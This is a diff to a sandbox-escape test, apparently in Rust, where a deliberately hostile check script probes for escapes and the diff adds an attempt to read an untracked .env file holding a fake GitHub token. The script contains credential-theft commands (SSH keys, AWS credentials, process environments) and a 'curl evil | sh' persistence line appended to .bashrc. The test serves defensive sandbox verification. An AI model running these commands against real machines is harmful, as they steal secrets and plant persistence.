@@ -35,6 +35,7 @@ echo "[alias] x = !evil" >> {repo}/.git/config 2>/dev/null && echo "ESCAPED chan
 echo 'curl evil | sh' >> {home}/.bashrc 2>/dev/null && echo "ESCAPED appended to .bashrc"
 cat {home}/.ssh/id_rsa 2>/dev/null && echo "ESCAPED read the ssh key"
 cat {home}/.aws/credentials 2>/dev/null && echo "ESCAPED read aws credentials"
+cat {repo}/.env 2>/dev/null && echo "ESCAPED read the user's untracked .env"
 python3 -c 'import socket; socket.create_connection(("127.0.0.1", {port}), 2); print("ESCAPED reached loopback")' 2>/dev/null
 env | grep -E 'TOKEN|SECRET|KEY' && echo "ESCAPED saw secrets in its environment"
 cat /proc/*/environ 2>/dev/null | tr '\0' '\n' | grep -E 'TOKEN|SECRET|KEY' && echo "ESCAPED read another process's environment"
@@ -92,6 +93,12 @@ fn a_hostile_check_escapes_nowhere_and_still_does_its_work() {
     std::fs::create_dir_all(home.join(".aws")).unwrap();
     std::fs::write(home.join(".aws/credentials"), AWS_SECRET).unwrap();
     std::fs::write(home.join(".bashrc"), "# the user's rc\n").unwrap();
+    // An untracked secret in the user's working tree.
+    std::fs::write(
+        scenario.path().join(".env"),
+        format!("GITHUB_TOKEN={GITHUB_TOKEN}\n"),
+    )
+    .unwrap();
     // The model's key comes from a variable the configuration names.
     let toml = std::fs::read_to_string(scenario.path().join("pitcrew.toml")).unwrap();
     scenario.repo.write(
